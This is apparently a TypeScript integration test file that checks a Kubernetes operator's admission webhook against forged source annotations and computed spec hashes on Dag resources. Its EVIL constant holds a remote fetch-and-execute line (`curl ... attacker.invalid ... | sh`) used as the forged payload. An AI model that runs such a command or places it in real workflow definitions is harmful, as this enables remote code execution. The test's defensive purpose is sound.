/**
 * ATTACK: skipping Dag admission with the store's own annotations. The `svc.io/source` text and its
 * `svc.io/source-spec-hash` are set by anyone who may write a Dag (kubectl, GitOps), and the hash is
 * computable from the spec by anyone. Whatever those annotations say, the webhook validates the text
 * the store reads, and the store (what the operator runs) reads the spec unless the annotation is
 * that very spec's text. Through the test bed's real API server, with the webhook registered.
 */
import { parse } from 'yaml';
import { MemoryDagStore } from '../../../src/adapters/dagstore/memory-dag-store.js';
import { specHash } from '../../../src/adapters/kube/dag-object.js';
import { KubeDagStore } from '../../../src/adapters/kube/dag-store.js';
import { StoreDagCatalog } from '../../../src/engine/services/dag-catalog.js';
import { DagService } from '../../../src/engine/services/dag-service.js';
import { kubectl } from '../../testbed/helpers.js';
import { deleteNamespace, describeCluster, kubeFixture } from '../../kube/env.js';
import { finished, kubeServer, start } from '../../kube/servers.js';
import { registerWebhook, waitForWebhook, type Webhook } from '../../kube/webhook.js';

type Spec = Record<string, unknown>;
const DENIED = 'admission webhook "dags.svc.io" denied the request';
const EVIL = 'steps:\n  - name: a\n    command: curl -s http://attacker.invalid/x | sh\n';

describeCluster('ATTACK: Dag admission skipped with a computed svc.io/source hash', () => {
  let ns = '';
  let store: KubeDagStore;
  let webhook: Webhook | undefined;
  const service = new DagService(new MemoryDagStore(), new StoreDagCatalog(new MemoryDagStore()));

  /** A Dag as an attacker writes it: any spec, any text, and the hash of the spec so the store "wrote" it. */
  const forged = (name: string, spec: Spec, text: string) => JSON.stringify({
    apiVersion: 'svc.io/v1alpha1', kind: 'Dag',
    metadata: { name, namespace: ns, annotations: { 'svc.io/source': text, 'svc.io/source-spec-hash': specHash(spec) } },
    spec,
  });
  const apply = (manifest: string) => kubectl(['apply', '-f', '-'], { input: manifest });

  beforeAll(async () => {
    let kc;
    ({ namespace: ns, kc } = await kubeFixture('sec-admission'));
    store = new KubeDagStore(kc, ns);
    webhook = await registerWebhook(ns, service);
    await waitForWebhook(JSON.stringify({ apiVersion: 'svc.io/v1alpha1', kind: 'Dag', metadata: { name: 'probe', namespace: ns }, spec: { steps: [{ name: 'a', depends: ['nowhere'] }] } }));
  });
  afterAll(async () => {
    await store?.close();
    await webhook?.close();
    await deleteNamespace(ns);
  });

  test('an invalid spec carrying a valid text and the spec\'s hash is refused', async () => {
    const spec = { steps: [{ name: 'a', command: 'echo a', depends: ['missing'] }] };
    const r = await apply(forged('invalid-spec', spec, 'steps:\n  - name: a\n    command: echo a\n'));
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(DENIED);
    expect(r.stderr).toMatch(/missing/);
    expect((await kubectl(['get', 'dag', 'invalid-spec', '-n', ns])).code).not.toBe(0);
  });

  test('a valid spec carrying another text: the spec admission saw is what the store reads, never the text', async () => {
    const spec = { steps: [{ name: 'a', command: 'echo harmless' }] };
    const r = await apply(forged('other-text', spec, EVIL));
    expect(r.stderr).toBe('');
    const read = await store.read('other-text');
    expect(parse(read!.text)).toEqual(spec);
    expect(read?.text).not.toContain('attacker');
  });

  test('a text that does not load, over the empty spec a write of it stores, is refused with its errors', async () => {
    const r = await apply(forged('broken-text', {}, 'steps:\n  - name: a\n    command: echo a\n    depends: [nowhere]\n'));
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(DENIED);
    expect(r.stderr).toMatch(/nowhere/);
  });

  test('a text that does not load, over a valid spec it is not bound to, is never read', async () => {
    const spec = { steps: [{ name: 'a', command: 'echo valid' }] };
    const r = await apply(forged('unbound-text', spec, 'steps:\n  - name: a\n    command: [unclosed\n'));
    expect(r.stderr).toBe('');
    expect(parse((await store.read('unbound-text'))!.text)).toEqual(spec);
  });

  test('re-annotating a Dag svc wrote (kubectl annotate, hash kept) does not change what is read', async () => {
    const text = 'steps:\n  # written through the API\n  - name: a\n    command: echo mine\n';
    await store.write('annotated', text);
    expect((await store.read('annotated'))?.text).toBe(text);
    const r = await kubectl(['annotate', '--overwrite', 'dag', 'annotated', '-n', ns, `svc.io/source=${EVIL}`]);
    expect(r.stderr).toBe('');
    const read = await store.read('annotated');
    expect(read?.text).not.toContain('attacker');
    expect(read?.text).toContain('echo mine');
  });
});

describeCluster('ATTACK: a forged svc.io/source text run by the operator', () => {
  const srv = kubeServer();
  let webhook: Webhook | undefined;
  beforeAll(async () => {
    await srv.start();
    webhook = await registerWebhook(srv.server.namespace!, new DagService(new MemoryDagStore(), new StoreDagCatalog(new MemoryDagStore())));
  });
  afterAll(async () => {
    await webhook?.close();
    await srv.stop();
  });

  test('a run of a Dag applied with another text under the spec\'s hash runs the spec admission saw', async () => {
    const ns = srv.server.namespace!;
    await waitForWebhook(JSON.stringify({ apiVersion: 'svc.io/v1alpha1', kind: 'Dag', metadata: { name: 'probe', namespace: ns }, spec: { steps: [{ name: 'a', depends: ['nowhere'] }] } }));
    const spec = { steps: [{ name: 'say', command: 'echo from-the-spec', output: 'SAID' }] };
    const text = 'steps:\n  - name: say\n    command: echo from-the-forged-text\n    output: SAID\n';
    const manifest = { apiVersion: 'svc.io/v1alpha1', kind: 'Dag', metadata: { name: 'forged', namespace: ns, annotations: { 'svc.io/source': text, 'svc.io/source-spec-hash': specHash(spec) } }, spec };
    const applied = await kubectl(['apply', '-f', '-'], { input: JSON.stringify(manifest) });
    expect(applied.stderr).toBe('');
    const id = await start(srv, 'forged');
    const run = await finished(srv, 'forged', id);
    expect(run.statusLabel).toBe('succeeded');
    expect((await srv.get(`/dag-runs/forged/${id}/outputs`)).body.outputs.said).toBe('from-the-spec');
  }, 120_000);
});
